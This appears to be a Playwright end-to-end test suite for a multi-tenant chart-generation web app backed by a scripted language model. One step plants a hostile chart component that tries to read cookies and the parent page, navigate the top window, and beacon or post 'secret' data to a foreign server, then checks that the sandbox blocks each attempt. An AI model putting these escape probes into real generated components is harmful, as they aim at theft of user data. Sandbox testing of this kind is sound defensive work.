// The visualization page in Debian's Chromium against the REAL running stack (./aide up or ./aide test), with a
// scripted OpenAI-compatible model started here (the one double: the language model lies outside the product):
// the recommender's chart without a model, a parameter change re-rendering without a new query, a question
// answered by the model (a native run_sql tool call, and a repair round) with thoughts and code streamed, save and reopen, sandbox escape attempts, a component
// that throws, and bob (another tenant) not seeing the template. AIDE_GATEWAY_URL (default http://127.0.0.1:8080 + AIDE_PORT_OFFSET).
// Each step is a testcase of target/failsafe-reports/TEST-web-ui-viz-e2e.xml, counted by ./aide test.
import { chromium } from 'playwright-core';
import { existsSync, readFileSync } from 'node:fs';
import http from 'node:http';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gatewayUrl, signIn, stepRunner, writeJUnitReport } from './harness.mjs';

const HERE = dirname(fileURLToPath(import.meta.url));
const ROOT = resolve(HERE, '../..');
const GATEWAY = gatewayUrl().replace('127.0.0.1', 'localhost');
const CHROMIUM = process.env.AIDE_CHROMIUM ?? '/usr/bin/chromium';
const TIMEOUT = Number(process.env.AIDE_E2E_TIMEOUT_MS ?? 60_000);
const SOURCES = sharedDir(ROOT, 'eval/jaffle-shop/sources');
const SQL = 'SELECT status, count(*) AS orders FROM raw_orders GROUP BY status ORDER BY status';
const WRONG_SQL = 'SELECT order_state, count(*) AS orders FROM raw_orders GROUP BY order_state';

function sharedDir(root, path) {
  for (let dir = root; ; dir = dirname(dir)) {
    const candidate = resolve(dir, '../shared', path);
    if (existsSync(candidate) || dirname(dir) === dir) return candidate;
  }
}

for (const [what, path] of [['Chromium', CHROMIUM], ['the jaffle-shop sources', SOURCES]]) {
  if (!existsSync(path)) {
    console.error(`No ${what} at ${path}`);
    process.exit(2);
  }
}

// the scripted model: a plain completion is the run_sql tool call (OpenAI tool_calls), a streamed one the component, in chunks
const COMPONENT = [
  '```jsx\n',
  'export default function Viz({ data, params }) {\n',
  "  const rows = data.rows.slice(0, params.limit || data.rows.length);\n",
  "  const max = Math.max(1, ...rows.map((r) => Number(r[1]) || 0));\n",
  '  return (\n',
  '    <figure data-chart={params.chart_type} data-model-component>\n',
  '      <h3>{params.title}</h3>\n',
  '      <svg width={400} height={200}>{rows.map((r, i) => <rect key={i} data-bar x={i * 40} y={200 - (Number(r[1]) / max) * 180} width={30} height={(Number(r[1]) / max) * 180} fill="#2563eb" />)}</svg>\n',
  '    </figure>\n',
  '  );\n',
  '}\n',
  '```',
];
const modelRequests = [];
// what reached this server from a chart sandbox trying to get out (an image, a form, a popup, a beacon): must stay empty
const escapes = [];
const pause = (ms) => new Promise((r) => setTimeout(r, ms));
const model = http.createServer((req, res) => {
  if (req.url.startsWith('/escape/')) {
    escapes.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*' });
    res.end('escaped');
    return;
  }
  let body = '';
  req.on('data', (c) => (body += c));
  req.on('end', async () => {
    modelRequests.push(body);
    const parsed = JSON.parse(body || '{}');
    if (parsed.stream) {
      res.writeHead(200, { 'Content-Type': 'text/event-stream' });
      // a question asked "slowly" gets its component over about 3 s, so the page can be watched while it streams
      const slow = body.includes('slowly');
      for (const piece of COMPONENT) {
        res.write(`data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1700000000, model: 'scripted', choices: [{ index: 0, delta: { content: piece } }] })}\n\n`);
        if (slow) await pause(250);
      }
      res.end(`data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1700000000, model: 'scripted', choices: [{ index: 0, delta: {}, finish_reason: 'stop' }], usage: { prompt_tokens: 10, completion_tokens: 20, total_tokens: 30 } })}\n\ndata: [DONE]\n\n`);
      return;
    }
    // the question's turn: a native tool call of run_sql, as OpenAI answers one; a question asking for a repair gets a
    // query the sample refuses first, then, once the error came back as the result of that call, the right one
    const repairing = body.includes('Repair the first query.') && !parsed.messages.some((m) => m.role === 'tool' && m.tool_call_id === 'call_wrong');
    const call = repairing
      ? { id: 'call_wrong', type: 'function', function: { name: 'run_sql', arguments: JSON.stringify({ sql: WRONG_SQL }) } }
      : { id: 'call_orders', type: 'function', function: { name: 'run_sql', arguments: JSON.stringify({ thought: 'Counting the orders of each status.', sql: SQL }) } };
    res.writeHead(200, { 'Content-Type': 'application/json' });
    res.end(JSON.stringify({ id: 'c1', object: 'chat.completion', created: 1700000000, model: 'scripted', choices: [{ index: 0, message: { role: 'assistant', content: null, tool_calls: [call] }, finish_reason: 'tool_calls' }], usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 } }));
  });
});
await new Promise((r) => model.listen(0, '127.0.0.1', r));
const MODEL_URL = `http://127.0.0.1:${model.address().port}/v1`;
// a server the chart sandbox must never reach (the scripted model's, on 127.0.0.1 where the sandbox is localhost)
const FOREIGN = `http://127.0.0.1:${model.address().port}`;

const browser = await chromium.launch({
  executablePath: CHROMIUM,
  args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run'],
});
const results = [];
const pageErrors = [];

const step = stepRunner(results, async () => {
  if (current) {
    const shown = await current.locator('[role="alert"], [data-testid="viz-thoughts"], [data-testid="viz-status"]').allInnerTexts().catch(() => []);
    console.log(`       page ${current.url()} shows: ${shown.join(' | ').slice(0, 1500)}`);
  }
});

function check(condition, message) {
  if (!condition) throw new Error(message);
}

let current = null;
async function newPage() {
  const context = await browser.newContext({ viewport: { width: 1400, height: 1000 } });
  const page = await context.newPage();
  current = page;
  page.on('console', (m) => {
    if (m.type() === 'error') pageErrors.push(`console: ${m.text()}`);
  });
  page.setDefaultTimeout(TIMEOUT);
  page.on('pageerror', (e) => pageErrors.push(e.message));
  return { context, page };
}

async function api(page, method, path, body) {
  return page.evaluate(
    async ({ method, path, body }) => {
      const init = { method, credentials: 'same-origin', headers: {} };
      if (body instanceof Object) {
        init.headers['Content-Type'] = 'application/json';
        init.body = JSON.stringify(body);
      }
      const r = await fetch(path, init);
      const text = await r.text();
      return { status: r.status, body: text ? JSON.parse(text) : null };
    },
    { method, path, body },
  );
}

const chart = (page) => page.frameLocator('[data-testid="viz-sandbox"]');
const rendersOf = async (page) => Number(await page.getByTestId('viz-renders').innerText());

async function until(what, condition, ms = TIMEOUT) {
  const end = Date.now() + ms;
  while (!(await condition())) {
    if (Date.now() > end) throw new Error(`not within ${ms} ms: ${what}`);
    await pause(50);
  }
}

/** Charts the SQL without a model (the form's SQL, the question cleared) and waits for the run's figure. */
async function chartSql(page, sql, chartType) {
  await page.goto(`${GATEWAY}/viz`);
  await page.locator('select[name="dataSourceId"]').selectOption(dataSourceId);
  await page.locator('input[name="question"]').fill('');
  await page.locator('textarea[name="sql"]').fill(sql);
  await page.getByRole('button', { name: 'Generate' }).click();
  await chart(page).locator(`figure[data-chart="${chartType}"]`).waitFor();
}

let exit = 0;
let templateId;
let dataSourceId;
const started = Date.now();
try {
  const { context: aliceContext, page } = await newPage();
  await step('alice logs in and registers the jaffle-shop sample as a data source', async () => {
    await signIn(page, GATEWAY, 'alice');
    const files = ['raw_customers.csv', 'raw_orders.csv', 'raw_payments.csv'].map((name) => ({ name, text: readFileSync(resolve(SOURCES, name), 'utf8') }));
    const answer = await page.evaluate(async (files) => {
      const form = new FormData();
      for (const f of files) form.append('file', new Blob([f.text], { type: 'text/csv' }), f.name);
      form.append('name', 'jaffle-shop (viz e2e)');
      const r = await fetch('/api/v1/datasources/upload', { method: 'POST', body: form, credentials: 'same-origin' });
      return { status: r.status, body: await r.json() };
    }, files);
    check(answer.status === 201, `upload answered ${answer.status}: ${JSON.stringify(answer.body)}`);
    dataSourceId = answer.body.dataSourceId;
  });

  await step('without a model, the recommender charts the SQL in the sandbox on another origin (allow-scripts, a policy without network)', async () => {
    await page.goto(`${GATEWAY}/viz`);
    await page.locator('select[name="dataSourceId"]').selectOption(dataSourceId);
    await page.locator('input[name="question"]').fill('Orders per status');
    await page.locator('textarea[name="sql"]').fill(SQL);
    await page.getByRole('button', { name: 'Generate' }).click();
    await chart(page).locator('figure[data-chart="bar"]').waitFor();
    const bars = await chart(page).locator('rect[data-bar]').count();
    const statuses = await api(page, 'POST', '/api/v1/viz/recommend', { columns: [{ name: 'x', type: 'BIGINT' }], rows: [[1]] });
    check(statuses.status === 200 && statuses.body.chart_type === 'kpi', 'the recommend endpoint did not answer through the gateway');
    check(bars >= 3, `the recommender's bar chart has ${bars} bars`);
    const thoughts = await page.getByTestId('viz-thoughts').innerText();
    check(thoughts.includes('No language model is configured'), `the thoughts do not say the recommender wrote it: ${thoughts}`);
    const src = await page.getByTestId('viz-sandbox').getAttribute('src');
    check(new URL(src).origin !== new URL(GATEWAY).origin, `the sandbox is on the portal's own origin (${src})`);
    check((await page.getByTestId('viz-sandbox').getAttribute('sandbox')) === 'allow-scripts', 'the frame is not sandbox="allow-scripts"');
    // the frame's page forbids every connection, form and foreign image, and may be framed by the portal only; its
    // origin serves no API
    const framed = await page.request.get(src);
    const policy = framed.headers()['content-security-policy'] ?? '';
    for (const directive of ["default-src 'none'", "connect-src 'none'", "form-action 'none'", 'img-src data: blob:', 'frame-ancestors ']) {
      check(policy.includes(directive), `the sandbox page's policy lacks ${directive}: ${policy}`);
    }
    const apiThere = await page.request.get(new URL('/api/v1/viz/templates', src).href);
    check(apiThere.status() === 404, `the sandbox origin answered ${apiThere.status()} for /api/v1/viz/templates`);
  });

  await step('a parameter change re-renders the chart without a new query', async () => {
    const requests = [];
    const listen = (r) => requests.push(r.url());
    page.on('request', listen);
    const before = await rendersOf(page);
    await page.locator('select[name="chart_type"]').selectOption('line');
    await chart(page).locator('figure[data-chart="line"] path[data-line]').waitFor();
    await until('the line chart is counted as a render', async () => (await rendersOf(page)) > before);
    // typed one key at a time, 40 ms apart: the chart renders once, 300 ms after the last key (the debounce)
    const typing = await rendersOf(page);
    const title = page.locator('input[name="title"]');
    await title.selectText();
    await title.pressSequentially('Orders by status, as a line', { delay: 40 });
    const typed = Date.now();
    await chart(page).getByText('Orders by status, as a line').waitFor();
    const shownAfter = Date.now() - typed;
    await pause(700);
    page.off('request', listen);
    const after = await rendersOf(page);
    // one render measured in every run; a second is tolerated for a browser stalled over 300 ms between two keys
    check(after - typing >= 1 && after - typing <= 2, `27 keys gave ${after - typing} renders, not one (debounce)`);
    console.log(`       title typed: ${after - typing} render(s), shown ${shownAfter} ms after the last key`);
    check(shownAfter >= 250, `the new title showed ${shownAfter} ms after the last key, before the 300 ms debounce`);
    const api = requests.filter((u) => u.includes('/api/'));
    check(api.length === 0, `the parameter change sent requests: ${api.join(', ')}`);
    check((await page.locator('fieldset.viz-params').getAttribute('disabled')) === null && !(await page.locator('input[name="title"]').isDisabled()), 'the parameters stay disabled after the run');
  });

  let largeUrl;
  await step('a large result comes as Parquet by URL, is checked and charted in the sandbox', async () => {
    const payments = readFileSync(resolve(SOURCES, 'raw_payments.csv'), 'utf8').trim().split('\n').length - 1;
    const fetched = page.waitForResponse((r) => r.url().includes('/api/v1/viz/data/'));
    await chartSql(page, 'SELECT p.id, p.amount FROM raw_payments p, range(8) r ORDER BY 1', 'scatter');
    const response = await fetched;
    largeUrl = new URL(response.url()).pathname;
    check(response.headers()['content-type']?.startsWith('application/vnd.apache.parquet'), `the data came as ${response.headers()['content-type']}`);
    await page.getByTestId('viz-status').getByText(`${8 * payments} rows (large, parquet)`).waitFor();
    const points = await chart(page).locator('[data-point]').count();
    check(points === 8 * payments, `the scatter shows ${points} points of ${8 * payments} rows`);
  });

  await step('without a model, each result shape gets its chart (kpi, bar, area, line, table)', async () => {
    const shapes = [
      ['SELECT count(*) AS orders FROM raw_orders', 'kpi'],
      ['SELECT status, count(*) AS orders FROM raw_orders GROUP BY status', 'bar'],
      ['SELECT order_date, count(*) AS orders FROM raw_orders GROUP BY order_date ORDER BY order_date', 'area'],
      ['SELECT order_date, count(*) AS orders, count(DISTINCT user_id) AS customers FROM raw_orders GROUP BY order_date', 'line'],
      ['SELECT first_name, last_name FROM raw_customers', 'table'],
    ];
    for (const [sql, chartType] of shapes) {
      await chartSql(page, sql, chartType);
      check((await page.locator('select[name="chart_type"]').inputValue()) === chartType, `the chart type control does not say ${chartType} for ${sql}`);
    }
  });

  await step('with the scripted model, a question streams thoughts and code, and the model\'s component renders', async () => {
    const { context, page: anna } = await newPage();
    await signIn(anna, GATEWAY, 'anna');
    const set = await api(anna, 'PUT', '/api/v1/ai/models/tenant', { baseUrl: MODEL_URL, model: 'scripted-viz', apiKey: 'sk-e2e' });
    check(set.status === 200, `setting the tenant's model answered ${set.status}`);
    await context.close();
    await page.goto(`${GATEWAY}/viz`);
    await page.locator('select[name="dataSourceId"]').selectOption(dataSourceId);
    await page.locator('input[name="question"]').fill('How many orders are there of each status?');
    const asked = Date.now();
    await page.getByRole('button', { name: 'Generate' }).click();
    await chart(page).locator('figure[data-model-component] rect[data-bar]').first().waitFor();
    console.log(`       question to first rendered chart: ${Date.now() - asked} ms`);
    const thoughts = await page.getByTestId('viz-thoughts').innerText();
    check(thoughts.includes('Counting the orders of each status.') && thoughts.includes('Calling run_sql'), `thoughts: ${thoughts}`);
    const code = await page.getByTestId('viz-code').innerText();
    check(code.startsWith('export default function Viz') && !code.includes('```'), `the streamed code: ${code.slice(0, 80)}`);
    check(modelRequests.some((b) => b.includes('raw_orders') && b.includes('How many orders')), 'the model was not given the schema and the question');
    const questions = modelRequests.map((b) => JSON.parse(b)).filter((r) => !r.stream && JSON.stringify(r.messages).includes('How many orders are there of each status?'));
    check(questions.length > 0 && questions.every((r) => (r.tools ?? []).map((t) => t.function.name).join() === 'run_sql,submit_spark' && r.tools.every((t) => t.function.parameters.required.join() === 'sql')), `the question's request did not declare run_sql and submit_spark: ${JSON.stringify(questions.map((r) => r.tools))}`);
    check((await page.locator('textarea[name="sql"]').inputValue()) === SQL, 'the generated SQL is not shown');
  });

  await step('while the run streams the parameters are disabled ("Generating..."), then enabled', async () => {
    await page.goto(`${GATEWAY}/viz`);
    await page.locator('select[name="dataSourceId"]').selectOption(dataSourceId);
    await page.locator('input[name="question"]').fill('How many orders are there of each status? Answer slowly.');
    await page.getByRole('button', { name: 'Generate' }).click();
    await page.getByTestId('viz-generating').waitFor();
    // the component is half written: code shown, generation still running
    await page.getByTestId('viz-code').getByText('export default function Viz').waitFor();
    check(!(await page.getByTestId('viz-code').innerText()).trimEnd().endsWith('}'), 'the whole component arrived before it could be watched streaming');
    check((await page.locator('fieldset.viz-params').getAttribute('disabled')) !== null, 'the parameters are enabled while the code streams');
    check(await page.locator('input[name="title"]').isDisabled(), 'the title can be edited while the code streams');
    check((await page.getByTestId('viz-generating').innerText()) === 'Generating...', 'no "Generating..." while streaming');
    await page.getByTestId('viz-generating').waitFor({ state: 'detached' });
    check((await page.locator('fieldset.viz-params').getAttribute('disabled')) === null && !(await page.locator('input[name="title"]').isDisabled()), 'the parameters stay disabled after the run');
    await chart(page).locator('figure[data-model-component] rect[data-bar]').first().waitFor();
  });

  await step('alice saves the streamed chart as a template and reopens it after a reload, re-run on fresh data', async () => {
    await page.locator('input[name="title"]').fill('Orders per status (saved)');
    await page.getByRole('button', { name: 'Save template' }).click();
    await page.waitForURL(/\/viz\/[0-9a-f-]{36}$/);
    templateId = page.url().split('/').pop();
    const reran = page.waitForResponse((r) => r.url().endsWith(`/api/v1/viz/templates/${templateId}/run`));
    await page.reload();
    check((await reran).status() === 200, 'reopening did not re-run the template');
    await chart(page).getByText('Orders per status (saved)').waitFor();
    await chart(page).locator('figure[data-model-component] rect[data-bar]').first().waitFor();
    // this template's own entry (earlier runs on the same database may have saved the same question)
    const entry = page.getByTestId('viz-templates').locator(`a[href$="/viz/${templateId}"]`);
    check((await entry.innerText()) === 'How many orders are there of each status? Answer slowly.', 'the saved template is not listed with its question');
  });

  await step('alice changes the saved template (PUT) and the change survives a reload', async () => {
    const created = await api(page, 'GET', `/api/v1/viz/templates/${templateId}`);
    await chart(page).getByText('Orders per status (saved)').waitFor();
    await page.locator('input[name="title"]').fill('Orders per status (changed)');
    await page.locator('select[name="color_scheme"]').selectOption('warm');
    const put = page.waitForResponse((r) => r.url().endsWith(`/api/v1/viz/templates/${templateId}`) && r.request().method() === 'PUT');
    await page.getByRole('button', { name: 'Save changes' }).click();
    check((await put).status() === 200, `saving the change answered ${(await put).status()}`);
    await page.reload();
    await chart(page).getByText('Orders per status (changed)').waitFor();
    check((await page.locator('select[name="color_scheme"]').inputValue()) === 'warm', 'the colour scheme was not kept');
    const changed = await api(page, 'GET', `/api/v1/viz/templates/${templateId}`);
    check(changed.body.parameters.title === 'Orders per status (changed)' && changed.body.parameters.color_scheme === 'warm', `stored parameters: ${JSON.stringify(changed.body.parameters)}`);
    check(changed.body.created_at === created.body.created_at && changed.body.updated_at > created.body.updated_at, `created_at/updated_at: ${created.body.created_at}/${created.body.updated_at} -> ${changed.body.created_at}/${changed.body.updated_at}`);
  });

  await step('escape attempts from the sandbox (fetch, parent.document, cookies, top.location, window.open, a beacon, an image and a form to a foreign server) all fail', async () => {
    const hostile = `export default function Viz({ data, params }) {
  const [net, setNet] = React.useState('pending');
  React.useEffect(() => {
    fetch('${GATEWAY}/api/v1/viz/templates', { credentials: 'include' }).then(() => setNet('reached'), (e) => setNet('blocked: ' + e.message));
  }, []);
  const probe = (f) => { try { const v = f(); return 'reached: ' + String(v).slice(0, 40); } catch (e) { return 'blocked: ' + e.name; } };
  const parentDoc = probe(() => window.parent.document.title);
  const cookie = probe(() => document.cookie);
  const topLoc = probe(() => window.top.location.href);
  const nav = probe(() => { window.top.location = 'https://example.com/'; return 'navigated'; });
  const popup = probe(() => { const w = window.open('${FOREIGN}/escape/open', '_blank'); if (w === null) throw { name: 'no window' }; return 'opened'; });
  const beacon = probe(() => navigator.sendBeacon('${FOREIGN}/escape/beacon', 'secret'));
  const [img, setImg] = React.useState('pending');
  const [posted, setPosted] = React.useState('pending');
  const form = React.useRef(null);
  React.useEffect(() => {
    try { form.current.submit(); setTimeout(() => setPosted('blocked: the frame stayed'), 700); } catch (e) { setPosted('blocked: ' + e.name); }
  }, []);
  return <ul>
    <li data-probe="fetch">{net}</li><li data-probe="parent">{parentDoc}</li>
    <li data-probe="cookie">{cookie}</li><li data-probe="top">{topLoc}</li><li data-probe="nav">{nav}</li>
    <li data-probe="popup">{popup}</li><li data-probe="beacon">{beacon}</li>
    <li data-probe="img">{img}<img alt="" src="${FOREIGN}/escape/pixel.png" onError={() => setImg('blocked: error')} onLoad={() => setImg('reached: loaded')} /></li>
    <li data-probe="form">{posted}<form ref={form} method="post" action="${FOREIGN}/escape/form"><input name="secret" defaultValue="data" /></form></li>
  </ul>;
}`;
    const saved = await api(page, 'POST', '/api/v1/viz/templates', { prompt: 'escape attempts', generated_sql: SQL, ui_code: hostile, parameters: {}, data_source: 'duckdb', data_source_id: dataSourceId, data_url: null });
    check(saved.status === 201, `saving the hostile template answered ${saved.status}`);
    // the browser reports even the requests its policy blocks; a response would mean one got out
    const outbound = [];
    const watch = (r) => {
      if (r.url().startsWith(FOREIGN)) outbound.push(`${r.status()} ${r.url()}`);
    };
    page.on('response', watch);
    await page.goto(`${GATEWAY}/viz/${saved.body.id}`);
    const frame = chart(page);
    for (const probe of ['fetch', 'img', 'form']) {
      await frame.locator(`[data-probe="${probe}"]`).filter({ hasNotText: 'pending' }).waitFor();
    }
    await pause(1000);
    page.off('response', watch);
    for (const probe of ['fetch', 'parent', 'cookie', 'top', 'popup', 'img', 'form']) {
      const text = await frame.locator(`[data-probe="${probe}"]`).innerText();
      check(text.startsWith('blocked'), `${probe}: ${text}`);
    }
    check(escapes.length === 0, `requests from the sandbox reached a foreign server: ${escapes.join(', ')}`);
    check(outbound.length === 0, `the browser got answers from a foreign server: ${outbound.join(', ')}`);
    check(page.context().pages().length === 1, `a window was opened: ${page.context().pages().map((p) => p.url()).join(', ')}`);
    const nav = await frame.locator('[data-probe="nav"]').innerText();
    check(new URL(page.url()).origin === new URL(GATEWAY).origin && page.url().includes('/viz/'), `top navigation happened (${nav}); the page is at ${page.url()}`);
    await api(page, 'DELETE', `/api/v1/viz/templates/${saved.body.id}`);
  });

  await step('a component that throws shows its error, not a blank frame', async () => {
    const saved = await api(page, 'POST', '/api/v1/viz/templates', { prompt: 'broken', generated_sql: SQL, ui_code: "export default function Viz() { throw new Error('no chart today'); }", parameters: {}, data_source: 'duckdb', data_source_id: dataSourceId, data_url: null });
    await page.goto(`${GATEWAY}/viz/${saved.body.id}`);
    await chart(page).locator('[data-sandbox-error]').getByText('no chart today').waitFor();
    await page.getByTestId('viz-error').getByText('no chart today').waitFor();
    await api(page, 'DELETE', `/api/v1/viz/templates/${saved.body.id}`);
  });
  await aliceContext.close();

  await step('carol (alice\'s tenant) finds the template in her list and opens its chart', async () => {
    const { context, page: carol } = await newPage();
    await signIn(carol, GATEWAY, 'carol');
    await carol.goto(`${GATEWAY}/viz`);
    await carol.getByTestId('viz-templates').locator(`a[href$="/viz/${templateId}"]`).click();
    await chart(carol).getByText('Orders per status (changed)').waitFor();
    await chart(carol).locator('figure[data-model-component] rect[data-bar]').first().waitFor();
    await context.close();
  });

  await step('bob (another tenant) sees neither the template nor its data, JSON or Parquet, nor saves a template on her data source', async () => {
    const { context, page: bob } = await newPage();
    await signIn(bob, GATEWAY, 'bob');
    const one = await api(bob, 'GET', `/api/v1/viz/templates/${templateId}`);
    check(one.status === 404, `bob's read of alice's template answered ${one.status}`);
    const parquet = await bob.evaluate(async (url) => (await fetch(url, { credentials: 'same-origin' })).status, largeUrl);
    check(parquet === 404, `bob's read of alice's Parquet result answered ${parquet}`);
    const changed = await api(bob, 'PUT', `/api/v1/viz/templates/${templateId}`, { prompt: 'mine now', generated_sql: SQL, ui_code: 'export default function Viz() { return null; }', parameters: {}, data_source: 'duckdb' });
    const removed = await api(bob, 'DELETE', `/api/v1/viz/templates/${templateId}`);
    check(changed.status === 404 && removed.status === 404, `bob's PUT and DELETE of alice's template answered ${changed.status}, ${removed.status}`);
    // a template of his own naming alice's data source is refused when saved, naming the field
    const own = await api(bob, 'POST', '/api/v1/viz/templates', { prompt: 'on alice\'s data', generated_sql: SQL, ui_code: 'export default function Viz() { return null; }', parameters: {}, data_source: 'duckdb', data_source_id: dataSourceId, data_url: null });
    if (own.status === 201) await api(bob, 'DELETE', `/api/v1/viz/templates/${own.body.id}`);
    check(own.status === 422 && own.body.code === 'viz_template_datasource_unknown' && own.body.detail.startsWith(`Field 'data_source_id' names data source '${dataSourceId}', which is not in your tenant`), `saving a template on alice's data source answered ${own.status}: ${JSON.stringify(own.body)}`);
    const list = await api(bob, 'GET', '/api/v1/viz/templates');
    check(list.status === 200 && !list.body.some((t) => t.id === templateId), 'alice\'s template is in bob\'s list');
    await bob.goto(`${GATEWAY}/viz/${templateId}`);
    await bob.getByText('No such template in your tenant.').waitFor();
    await context.close();
  });

  await step('alice deletes the template: gone from the list, its URL answers 404', async () => {
    const { context, page: alice } = await newPage();
    await signIn(alice, GATEWAY, 'alice');
    await alice.goto(`${GATEWAY}/viz/${templateId}`);
    await chart(alice).getByText('Orders per status (changed)').waitFor();
    const deleted = alice.waitForResponse((r) => r.url().endsWith(`/api/v1/viz/templates/${templateId}`) && r.request().method() === 'DELETE');
    await alice.getByRole('button', { name: 'Delete template' }).click();
    check((await deleted).status() === 204, `the delete answered ${(await deleted).status()}`);
    await alice.waitForURL(/\/viz$/);
    check((await alice.getByTestId('viz-templates').locator(`a[href$="/viz/${templateId}"]`).count()) === 0, 'the deleted template is still listed');
    const gone = await api(alice, 'GET', `/api/v1/viz/templates/${templateId}`);
    check(gone.status === 404, `reading the deleted template answered ${gone.status}`);
    await context.close();
  });

  await step('a query the sample refuses goes back to the model as the result of its tool call, and the corrected one is charted', async () => {
    const { context, page: alice } = await newPage();
    await signIn(alice, GATEWAY, 'alice');
    await alice.goto(`${GATEWAY}/viz`);
    await alice.locator('select[name="dataSourceId"]').selectOption(dataSourceId);
    await alice.locator('input[name="question"]').fill('How many orders are there of each status? Repair the first query.');
    await alice.getByRole('button', { name: 'Generate' }).click();
    await chart(alice).locator('figure[data-model-component] rect[data-bar]').first().waitFor();
    const thoughts = await alice.getByTestId('viz-thoughts').innerText();
    check(thoughts.includes('run_sql failed') && thoughts.includes('order_state') && thoughts.includes('Asking the model for a correction.'), `thoughts: ${thoughts}`);
    const asked = modelRequests.map((b) => JSON.parse(b)).filter((r) => !r.stream && JSON.stringify(r.messages).includes('Repair the first query.'));
    const results = asked.map((r) => r.messages.filter((m) => m.role === 'tool'));
    check(asked.length === 2 && results[0].length === 0 && results[1].length === 1 && results[1][0].tool_call_id === 'call_wrong' && results[1][0].content.includes('order_state'), `the error did not go back as the result of call_wrong: ${JSON.stringify(results)}`);
    check((await alice.locator('textarea[name="sql"]').inputValue()) === SQL, 'the corrected SQL is not shown');
    await context.close();
  });
} catch (e) {
  exit = 1;
} finally {
  // the tenant's model pointed at this run's scripted server: leave the tenant as it was (the test database is shared
  // by later runs and by the services' own tests)
  await (async () => {
    const { context, page: anna } = await newPage();
    await signIn(anna, GATEWAY, 'anna');
    await api(anna, 'DELETE', '/api/v1/ai/models/tenant');
    await context.close();
  })().catch((e) => console.log(`       could not remove the tenant's scripted model: ${e.message}`));
  await browser.close();
  model.close();
}
writeJUnitReport('viz', results);
const failed = results.filter((r) => !r.ok).length;
console.log(`viz browser suite: ${results.length - failed} passed, ${failed} failed in ${((Date.now() - started) / 1000).toFixed(1)} s${pageErrors.length ? `; page errors: ${pageErrors.join(' | ')}` : ''}`);
process.exit(exit);
